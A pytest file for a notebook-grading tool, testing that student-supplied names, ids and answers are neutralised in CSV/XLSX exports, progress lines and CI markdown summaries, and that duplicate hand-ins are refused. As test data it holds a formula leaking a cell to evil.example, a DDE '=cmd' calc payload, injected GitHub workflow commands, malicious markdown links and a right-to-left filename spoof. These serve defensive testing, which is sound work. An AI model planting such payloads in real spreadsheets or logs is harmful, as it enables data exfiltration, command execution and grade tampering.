"""Hostile text from the student's side: formulas in exports, two hand-ins for one id, and control or
bidi characters and markdown in names, ids and tags. The writers are fed their inputs directly."""
import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import nbformat
import openpyxl
import pytest

from grader.apps.ci import summary
from grader.core.result import AnswerResult, QuestionResult, RunError, Status, Student, StudentResult
from grader.core.text import Text
from grader.core.classlist import ClassRecord, Gradebook
from grader.engine.class_book import gradebook
from grader.outputs.gradebook import write_gradebook
from grader.intake import RosterError, discover, open_submission, read_notebook
from grader.manual import export_sheet, import_sheet, load_scores
from grader.apps.portal.commands import _codes_csv
from grader.apps.progress import Progress
from grader.outputs.results import write_grades_csv, write_result
from grader.untrusted import csv_plain, csv_text, identifier
from tests.support.hostile import corpus
from tests.support.paths import ROOT
from tests.support.runs import grader_env

RLO, LRI, PDI, ZWNJ, ESC = "\u202e", "\u2066", "\u2069", "\u200c", "\x1b"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NAME_FA = f"نام{ZWNJ}خانوادگی آزمایشی"  # a made-up name; its ZWNJ is legitimate and stays


# --- A. formulas in spreadsheets -------------------------------------------------------------

@pytest.mark.parametrize("text,field", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\rcmd", "'\rcmd"), ("\tplain", "'\tplain"), ("  =1", "'  =1"),
    ("'=1", "''=1"), ("''+1", "'''+1"), ("'plain", "'plain"), ("plain", "plain"), ("", ""),
    ("a=1", "a=1"), ("سارا", "سارا"),
])
def test_csv_text_quotes_formulas_and_round_trips(text, field):
    assert csv_text(text) == field
    assert csv_plain(field) == text


def test_csv_plain_reads_a_field_whose_apostrophe_an_editor_dropped():
    assert csv_plain("=1+1") == "=1+1" and csv_plain("'plain") == "'plain"


def hostile_results() -> list[StudentResult]:
    def result(sid, fa, en, *points):
        """One question of 10 points per entry of `points`, each with one answer holding those points."""
        questions = [QuestionResult(f"q{i}", Text("یک", "One"), 10,
                                    [AnswerResult("a", "numeric", 10, Status.of_fraction(p / 10), p)])
                     for i, p in enumerate(points, start=1)]
        return StudentResult(Student(sid, fa, en), "hw1", 10, questions)
    # s02: -0.5 in q1 (exported) and 0.5 in q2 (not): a total of 0
    return [result("@evil", NAME_FA, FORMULA, 5), result("s02", "-1+1", "\t=cmd|' /C calc'!A0", -0.5, 0.5)]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def hostile_book(assignment: str = "hw1") -> Gradebook:
    return gradebook(ClassRecord(), hostile_results(), assignment, ["q1"], 10)


def test_grades_csv_neutralises_text_and_keeps_numbers(tmp_path):
    write_grades_csv(tmp_path / "grades.csv", hostile_book())
    assert read_csv(tmp_path / "grades.csv") == [
        ["id", "name", "q1", "total", "max_total", "manual_pending", "status"],
        ["'@evil", "'" + FORMULA, "5", "5", "10", "0", "graded"],
        ["s02", "'\t=cmd|' /C calc'!A0", "-0.5", "0", "10", "0", "graded"],  # a negative number is not quoted
    ]


def test_moodle_csv_neutralises_the_identifier_and_the_assignment(tmp_path):
    write_gradebook(tmp_path, hostile_book("=hw1"))
    assert read_csv(tmp_path / "moodle.csv") == [["ID number", "'=hw1 total", "'=hw1 feedback"],
                                                 ["'@evil", "5", "q1: ۵ از ۱۰\nq1: 5/10"],
                                                 ["s02", "0", "q1: -۰٫۵ از ۱۰\nq1: -0.5/10"]]


def test_grades_xlsx_holds_text_cells_never_formulas(tmp_path):
    write_gradebook(tmp_path, hostile_book())
    ws = openpyxl.load_workbook(tmp_path / "grades.xlsx")["grades"]
    evil, other = ws[2], ws[3]
    assert [(c.value, c.data_type) for c in evil[:4]] == [
        ("@evil", "s"), (NAME_FA, "s"), (FORMULA, "s"), (5, "n")]
    assert [(c.value, c.data_type) for c in other[:4]] == [
        ("s02", "s"), ("-1+1", "s"), ("\t=cmd|' /C calc'!A0", "s"), (-0.5, "n")]
    assert evil[0].quotePrefix and evil[2].quotePrefix and other[1].quotePrefix  # Excel keeps them text on edit
    assert not evil[1].quotePrefix and not other[0].quotePrefix
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_codes_csv_neutralises_ids_and_names():
    index = SimpleNamespace(students={"s1": SimpleNamespace(name_fa="+98 912", name_en=FORMULA)})
    rows = list(csv.reader(io.StringIO(_codes_csv(index, {"s1": "k7mq-2hxa-9pzt"}, "staff-code"))))
    assert rows[1] == ["s1", "'+98 912 / " + FORMULA, "k7mq-2hxa-9pzt"]


ESSAYS = {"eve": FORMULA, "sam": "\t-1+1 tab first", "tim": f"colour {ESC}[31m red", "uma": "'=quoted already"}


def manual_out(tmp_path: Path) -> Path:
    """Results of four students with one manual question each, as `grader run` leaves them."""
    out = tmp_path / "out"
    for sid, text in ESSAYS.items():
        answer = AnswerResult("", "manual", 3, Status.PENDING, by_person=True)
        question = QuestionResult("q3", Text("تشریحی", "Essay"), 3, [answer], answer_text=text)
        write_result(out, StudentResult(Student(sid, name_en="@" + sid), "hw", 3, [question]))
    return out


def test_manual_xlsx_answers_are_text_cells_and_import_untouched(tmp_path):
    out = manual_out(tmp_path)
    path = out / "manual.xlsx"
    assert export_sheet(out, path) == 4
    book = openpyxl.load_workbook(path)
    rows = {r[0].value: r for r in book.active.iter_rows(min_row=2)}
    assert (rows["eve"][5].value, rows["eve"][5].data_type, rows["eve"][5].quotePrefix) == (FORMULA, "s", True)
    assert (rows["sam"][5].value, rows["sam"][5].data_type) == (ESSAYS["sam"], "s")
    assert rows["tim"][5].value == "colour \ufffd[31m red"  # XLSX cannot hold ESC
    assert (rows["eve"][1].value, rows["eve"][1].data_type) == ("@eve", "s")
    for row in rows.values():
        row[7].value = 2  # the score column, as a teaching assistant types it
    book.save(path)
    assert sorted(import_sheet(out, path)) == sorted(ESSAYS)
    assert {sid: s["q3"]["score"] for sid, s in load_scores(out).items()} == dict.fromkeys(ESSAYS, 2.0)


def test_manual_csv_answers_start_with_an_apostrophe_and_import_untouched(tmp_path):
    out = manual_out(tmp_path)
    path = out / "manual.csv"
    export_sheet(out, path)
    header, *body = read_csv(path)
    rows = {r[0]: dict(zip(header, r)) for r in body}
    assert rows["eve"]["answer"] == "'" + FORMULA and rows["eve"]["name"] == "'@eve"
    assert rows["sam"]["answer"] == "'\t-1+1 tab first" and rows["uma"]["answer"] == "''=quoted already"
    assert rows["tim"]["answer"] == ESSAYS["tim"]
    for row in body:
        row[header.index("score")] = "1.5"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([header, *body])
    assert sorted(import_sheet(out, path)) == sorted(ESSAYS)
    assert {sid: s["q3"]["score"] for sid, s in load_scores(out).items()} == dict.fromkeys(ESSAYS, 1.5)


# --- B. two hand-ins for one student id -------------------------------------------------------

def notebook_at(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(corpus.notebook(corpus.HONEST), path)


@pytest.mark.parametrize("second", ["alice.ipynb", "alice.zip", "Alice", f"alice{RLO}.ipynb"])
def test_two_hand_ins_for_one_id_are_both_refused(tmp_path, capsys, second):
    notebook_at(tmp_path / "alice" / "hw.ipynb")
    if second.endswith(".zip"):
        (tmp_path / second).write_bytes(b"PK\5\6" + bytes(18))
    elif second.endswith(".ipynb"):
        notebook_at(tmp_path / second)
    else:
        notebook_at(tmp_path / second / "hw.ipynb")
    notebook_at(tmp_path / "bob" / "hw.ipynb")
    subs = discover(tmp_path)
    assert [s.student_id for s in subs] == ["Alice" if second == "Alice" else "alice", "bob"]
    alice, bob = subs
    other = identifier(second) + ("/" if (tmp_path / second).is_dir() else "")
    first = ["Alice/", "alice/"] if second == "Alice" else ["alice/", other]  # in the folder's order
    assert not bob.clashes and len(alice.clashes) == 2
    err = capsys.readouterr().err
    assert f"has 2 hand-ins ({first[0]!r}, {first[1]!r}); none is graded" in err

    nb, problem = open_submission(alice, tmp_path / "work")
    assert nb is None and problem.kind == "duplicate_id" and problem.detail == ", ".join(first)
    assert "More than one hand-in has this student id" in problem.en and "بیش از یک تحویل" in problem.fa
    assert not (tmp_path / "work").exists()  # neither hand-in was copied, let alone run


def test_removing_one_of_two_hand_ins_changes_the_digest(tmp_path):
    notebook_at(tmp_path / "alice" / "hw.ipynb")
    notebook_at(tmp_path / "alice.ipynb")
    both = discover(tmp_path)[0].digest()
    (tmp_path / "alice.ipynb").unlink()
    assert discover(tmp_path)[0].digest() != both


def test_two_roster_rows_for_one_id_stop_the_run(tmp_path):
    (tmp_path / "students.csv").write_text("id,name_fa,name_en,email\ns1,الف,A,a@x\ns2,ب,B,b@x\nS1,ج,Mallory,m@x\n",
                                           encoding="utf-8")
    with pytest.raises(RosterError, match=r"students.csv: lines 2 and 4 are both for student id 'S1'"):
        discover(tmp_path)


def test_a_roster_row_names_its_student_whatever_the_case(tmp_path):
    (tmp_path / "students.csv").write_text("id,name_fa,name_en\nS1,الف,A\n", encoding="utf-8")
    notebook_at(tmp_path / "s1" / "hw.ipynb")
    assert [(s.student_id, s.name_en) for s in discover(tmp_path)] == [("s1", "A")]


@pytest.mark.e2e
@pytest.mark.sandbox
@pytest.mark.slow
def test_the_run_goes_on_and_the_refused_student_gets_a_bilingual_result(tmp_path):
    paths = corpus.build(tmp_path / "course", 9)
    subs, out = tmp_path / "class", tmp_path / "out"
    notebook_at(subs / "alice" / "hw.ipynb")
    notebook_at(subs / "alice.ipynb")
    notebook_at(subs / "bob" / "hw.ipynb")
    run = subprocess.run([sys.executable, "-m", "grader.apps.cli", "run", str(subs), "--assignment", "hostile",
                          "--out", str(out)], cwd=ROOT, env=grader_env(paths), capture_output=True, text=True,
                         timeout=300)
    assert run.returncode == 0, run.stderr[-2000:]
    assert "student id 'alice' has 2 hand-ins ('alice/', 'alice.ipynb'); none is graded" in run.stderr
    alice = json.loads((out / "results" / "alice.json").read_text(encoding="utf-8"))
    assert alice["total"] == 0 and [e["kind"] for e in alice["errors"]] == ["duplicate_id"]
    assert alice["errors"][0]["detail"] == "alice/, alice.ipynb" and alice["errors"][0]["message"]["fa"]
    bob = json.loads((out / "results" / "bob.json").read_text(encoding="utf-8"))
    assert bob["total"] == bob["max_total"] > 0 and (out / "alice.pdf").is_file()


# --- C. control and bidi characters, markdown ---------------------------------------------------

def test_identifier_strips_controls_and_bidi_but_keeps_persian():
    bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    assert identifier(f"s1{bidi}{ESC}[2J\x00\x07\x7f\x85\x9b!") == "s1[2J !"
    assert identifier("a\nb\r\n\tc") == "a b c" and identifier(NAME_FA) == NAME_FA


def test_ids_names_and_tags_are_cleaned_at_intake(tmp_path):
    sid = f"s1{RLO}fdp.exe{ESC}[31m"
    nb = corpus.notebook(corpus.HONEST)
    nb.cells[0].metadata["grader"] = {"question": f"q1{RLO}{LRI}x{PDI}", "answer": f"ans{ESC}[0m", "given": True}
    notebook_at(tmp_path / sid / "hw.ipynb")
    nbformat.write(nb, tmp_path / sid / "hw.ipynb")
    (tmp_path / "students.csv").write_text(f"id,name_fa,name_en\n{sid},{RLO}{NAME_FA}\x07,\"Eve\nEvil\"\n",
                                           encoding="utf-8")
    (sub,) = discover(tmp_path)
    assert (sub.student_id, sub.name_fa, sub.name_en) == ("s1fdp.exe[31m", NAME_FA, "Eve Evil")
    read, problem = read_notebook(tmp_path / sid / "hw.ipynb")
    assert problem is None and read.cells[0].metadata["grader"] == {"question": "q1x", "answer": "ans[0m",
                                                                     "given": True}


def test_a_progress_line_is_one_line_without_escapes():
    stream = io.StringIO()
    result = StudentResult(Student(f"eve\n::set-output name=grade::100\r\n::error::pwned{ESC}[2J"), "hw1", 10,
                           [QuestionResult("q1", Text("یک", "One"), 10,
                                           [AnswerResult("a", "numeric", 10, Status.PARTIAL, 1.0)])],  # a total of 1
                           errors=[RunError("x\n::warning::y", Text())], runtime_s=0.5)
    Progress(stream)(1, 2, result, cached=False)
    lines = stream.getvalue().splitlines()
    assert lines == ["[1/2] eve ::set-output name=grade::100 ::error::pwned[2J: 1/10 in 0.5 s · x ::warning::y"]
    assert not any(line.lstrip().startswith("::") for line in lines)


def test_the_ci_summary_escapes_markdown_from_students():
    result = StudentResult(
        Student(f"s1\n# heading{RLO}", name_en="[x](http://evil)"), "hw1", 10,
        [QuestionResult("q1", Text("یک", "One"), 10, [AnswerResult("a", "numeric", 10, Status.ERROR)])],
        errors=[RunError("cell_timeout", Text("[y](http://evil)",
                                              "![pic](http://evil/p.png) <img src=x> **bold** www.evil.example"))])
    md = summary.graded([summary.Outcome("hw1", Text("تمرین ۱", "Homework 1"), [result],
                                         [("z\n- [link](http://evil)", "removed")])])
    assert "### \\[x\\]\\(http\\://evil\\) · `s1 # heading`" in md
    assert ("- \\!\\[pic\\]\\(http\\://evil/p\\.png\\) &lt;img src=x&gt; \\*\\*bold\\*\\* www\\.evil\\.example"
            in md)
    assert "- \\[y\\]\\(http\\://evil\\)" in md  # the Persian block too, name falling back to name_en
    assert "- `z - [link](http://evil)`: removed by this pull request" in md
    assert RLO not in md and "\n" not in md.split("`z - ")[1].split("`")[0]
    assert not any(line.startswith(("# ", "- [", "::")) for line in md.splitlines())
